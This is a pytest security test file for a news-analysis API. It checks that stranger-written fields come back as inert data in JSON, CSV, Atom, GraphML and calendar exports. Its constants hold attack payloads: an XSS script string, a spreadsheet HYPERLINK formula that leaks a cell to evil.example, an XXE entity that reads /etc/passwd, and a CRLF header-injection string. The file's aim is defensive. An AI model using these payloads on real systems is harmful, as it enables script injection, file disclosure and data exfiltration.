"""What strangers wrote, in every field: the API hands it on as data, never as something that a browser runs or a sheet calculates."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from feedparser import parse as parse_feed
from icalendar import Calendar
from starlette.testclient import TestClient

from cli.handmade import make_reading
from desk.conftest import Serve, clock
from desk.test_api_lists import walk
from detente.desk.api.exporting import Form
from detente.model.json import from_dict, to_dict
from detente.model.records import Reading
from detente.record import open_record
from evaluation.scale import TODAY

SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
PAYLOADS = (SCRIPT, FORMULA, "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "line\r\nSet-Cookie: a=b\x00\x1b[31m\u2028\u202e")
FIELDS = ("name", "title", "publisher", "author", "organisation", "url", "dateline")
# A page sees the payloads in text; these leave a browser nothing to run.
HARMLESS = {
    *("application/json", "application/problem+json", "application/x-ndjson", "application/ld+json", "text/csv"),
    *("text/tab-separated-values", "text/calendar", "application/atom+xml", "application/graphml+xml", "application/vnd.apache.parquet"),
}
LISTS = "articles actors events statements channels?one_off=true disputes relations changes search?q=fisheries".split()
OTHERS = (
    *("/statusz", "/api/v1/openapi.json", "/api/v1/events/%3Cscript%3Ealert(1)", "/api/v1/actors?name=%3Cb%3E&x=%3Cb%3E"),
    "/api/v1/search?q=%3Cscript%3E&item=%3Cscript%3E",
)


def poisoned(value: Any, payload: str) -> Any:
    """Return a reading's JSON with a payload in every text that a stranger may have written; spans stay those of the text."""
    if isinstance(value, dict):
        fields = () if "start" in value and "text" in value else FIELDS
        return {key: payload if key in fields and isinstance(inner, str) else poisoned(inner, payload) for key, inner in value.items()}
    return [poisoned(inner, payload) for inner in value] if isinstance(value, list) else value


@pytest.fixture(scope="module", params=PAYLOADS, ids=["script", "formula", "entity", "controls"])
def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    path = tmp_path_factory.mktemp("hostile") / "record.db"
    reading = from_dict(Reading, poisoned(to_dict(make_reading()), request.param))
    with open_record(path) as book:
        book.writer(clock=clock, who=request.param).add(reading)
        book.settle(TODAY)
    return path, request.param


@pytest.fixture
def desk_of(serve: Serve, hostile: tuple[Path, str]) -> TestClient:
    return serve(record=str(hostile[0]))


def test_every_answer_is_data(desk_of: TestClient, hostile: tuple[Path, str]) -> None:
    shown = 0
    for path in [*(f"/api/v1/{name}" for name in LISTS), *OTHERS]:
        answer = desk_of.get(path)
        assert answer.headers["content-type"].partition(";")[0] in HARMLESS, path
        assert answer.headers["x-content-type-options"] == "nosniff"
        shown += hostile[1][:4] in str(answer.json())
        for item in answer.json().get("items", []):
            one = desk_of.get(f"{path.partition('?')[0]}/{item.get('id')}")
            assert one.headers["content-type"].partition(";")[0] in HARMLESS
    assert shown >= 5


@pytest.mark.parametrize("form", list(Form))
def test_every_export_is_data(desk_of: TestClient, hostile: tuple[Path, str], form: Form) -> None:
    answer = desk_of.get(f"/api/v1/export/{form.value}" + ("?since=2012-01-01" if form is Form.ATOM else ""))
    assert answer.status_code == 200
    assert answer.headers["content-type"].partition(";")[0] in HARMLESS
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "a" not in answer.cookies
    if form in (Form.GRAPHML, Form.ATOM):
        ElementTree.fromstring(answer.text)
        assert "<!ENTITY" not in answer.text.replace("&lt;", "\x01")
        assert "<script" not in answer.text
    if form is Form.ATOM:
        assert not parse_feed(answer.content).bozo
    if form is Form.ICS:
        assert Calendar.from_ical(answer.content)
    if form in (Form.JSONL, Form.FTM):
        assert all(json.loads(line) for line in answer.text.split("\n") if line)
    if form in (Form.CSV, Form.DYADS, Form.POLECAT, Form.ICEWS, Form.GDELT):
        for row in csv.reader(io.StringIO(answer.text, newline=""), delimiter="," if form is Form.CSV else "\t"):
            assert not [cell for cell in row if cell.startswith(("=", "@", "+")) or (cell.startswith("-") and not cell[1:2].isdigit())]


def test_a_pasted_text_comes_back_as_data(desk_of: TestClient, hostile: tuple[Path, str]) -> None:
    answer = desk_of.post("/api/v1/read", json={"text": " ", "title": hostile[1][:400]})
    assert answer.headers["content-type"] == "application/problem+json"


def test_lists_still_go_page_by_page(desk_of: TestClient) -> None:
    for name in ("actors?", "events?", "statements?", "channels?one_off=true"):
        assert walk(desk_of, f"/api/v1/{name}", 1) == walk(desk_of, f"/api/v1/{name}", 100)
